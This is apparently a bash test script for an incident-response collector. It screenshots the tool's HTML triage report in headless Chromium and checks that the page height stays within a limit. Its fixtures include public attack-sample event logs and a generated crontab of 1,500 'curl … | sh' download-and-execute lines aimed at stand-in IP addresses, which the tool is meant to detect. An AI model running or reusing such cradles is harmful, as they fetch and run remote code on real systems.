#!/usr/bin/env bash
# The triage report as a browser shows it: headless Chromium screenshots of the first screen
# for a live archive, a Windows-root archive (public attack samples) and an archive with
# thousands of findings, and a check that the page stays short however many findings there
# are (a live report once held 312 findings in 106,532 px of page).
#
#   bash scripts/report-screenshots.sh            # screenshots in $CARGO_TARGET_DIR/report-shots
#   IRSNAP_BIN=path/to/irsnap bash scripts/report-screenshots.sh
#
# Installs chromium (apt) and Pillow (a venv under the target dir) when missing; says
# SKIPPED when it cannot. Scratch lives under the target dir, not in a collected temp dir.
set -euo pipefail
source "$(dirname "$0")/lib.sh"
repo="$REPO_ROOT"
target="${CARGO_TARGET_DIR:-$repo/target}"
shots="$target/report-shots"
work="$target/report-shots-work"
# Page height allowed for the thousands-of-findings report, in CSS pixels at 1280 px wide.
max_height="${IRSNAP_REPORT_MAX_HEIGHT:-12000}"
# The tall viewport the height is measured in (Chromium's largest screenshot is 16384 px).
tall=16000

apt_need chromium || skip "report screenshots: chromium could not be installed"
chrome="$(command -v chromium || command -v chromium-browser || true)"
[ -n "$chrome" ] || skip "report screenshots: no chromium binary"
venv="$target/shots-venv"
if ! "$venv/bin/python" -c 'import PIL' >/dev/null 2>&1; then
    rm -rf "$venv"
    python3 -m venv "$venv" >&2 || skip "report screenshots: no python3 venv"
    "$venv/bin/pip" install --quiet --disable-pip-version-check 'pillow>=10,<12' >&2 ||
        skip "report screenshots: could not pip-install pillow"
fi

bin="${IRSNAP_BIN:-}"
if [ -z "$bin" ]; then
    (cd "$repo" && cargo build --quiet)
    bin="$target/debug/irsnap"
fi
rm -rf "$work" "$shots"
mkdir -p "$work" "$shots"

# A Windows-like root from public attack samples (DCOM/Impacket remote execution, encoded
# PowerShell, malicious tasks).
samples="$repo/../shared/corpus/evtx"
fixtures="$repo/../shared/fixtures"
win="$work/winroot"
logs="$win/Windows/System32/winevt/Logs"
mkdir -p "$logs" "$win/Windows/System32/Tasks"
cp "$samples/EVTX-ATTACK-SAMPLES/Lateral Movement/LM_impacket_docmexec_mmc_sysmon_01.evtx" \
    "$logs/Microsoft-Windows-Sysmon%4Operational.evtx" 2>/dev/null ||
    cp "$fixtures/evtx/sigma-regression/proc_creation_win_powershell_base64_invoke/6385697e-9f1b-40bd-8817-f4a91f40508e.evtx" \
        "$logs/Microsoft-Windows-Sysmon%4Operational.evtx"
cp "$fixtures/tasks/dfir-artifact-museum/Win10/APTSimulatorVM/GameOver" "$win/Windows/System32/Tasks/" || true

# A Linux root whose crontab holds 1,500 distinct download cradles: thousands of findings.
many="$work/manyroot"
mkdir -p "$many/etc"
echo many >"$many/etc/hostname"
for i in $(seq 1 1500); do
    echo "*/5 * * * * root curl -s http://198.51.100.$((i % 250 + 1))/p$i.sh | sh"
done >"$many/etc/crontab"

collect() { # name args...
    local name="$1"
    shift
    "$bin" collect -q -o "$work/out-$name" "$@" >/dev/null || [ $? -eq 2 ]
    local a
    a="$(ls "$work/out-$name"/*.zip | head -1)"
    (cd "$work/out-$name" && unzip -q -o "$a" report.html findings.jsonl)
    echo "$work/out-$name"
}

shot() { # html png height
    timeout 120 "$chrome" --headless --no-sandbox --disable-gpu --hide-scrollbars \
        --force-device-scale-factor=1 --window-size="1280,$3" --screenshot="$2" "file://$1" \
        >/dev/null 2>&1 || die "chromium could not render $1"
}

status=0
for spec in "live:--profile volatile" "windows:--root $win" "thousands:--root $many"; do
    name="${spec%%:*}"
    args="${spec#*:}"
    # shellcheck disable=SC2086
    dir="$(collect "$name" $args)"
    findings=$(wc -l <"$dir/findings.jsonl")
    shot "$dir/report.html" "$shots/$name-top.png" 900
    shot "$dir/report.html" "$work/$name-tall.png" "$tall"
    height=$("$venv/bin/python" - "$work/$name-tall.png" <<'EOF'
import sys
from PIL import Image, ImageChops
im = Image.open(sys.argv[1]).convert("RGB")
bg = Image.new("RGB", im.size, (255, 255, 255))
box = ImageChops.difference(im, bg).getbbox()
print(box[3] if box else 0)
EOF
)
    echo "report-screenshots: $name: $findings findings, page $height px (top screen: $shots/$name-top.png)"
    if [ "$height" -ge "$max_height" ]; then
        echo "FAILED: the $name report is $height px tall (limit $max_height)" >&2
        status=1
    fi
done
[ "$(wc -l <"$work/out-thousands/findings.jsonl")" -ge 1000 ] ||
    die "the thousands archive has fewer than 1,000 findings"
exit $status
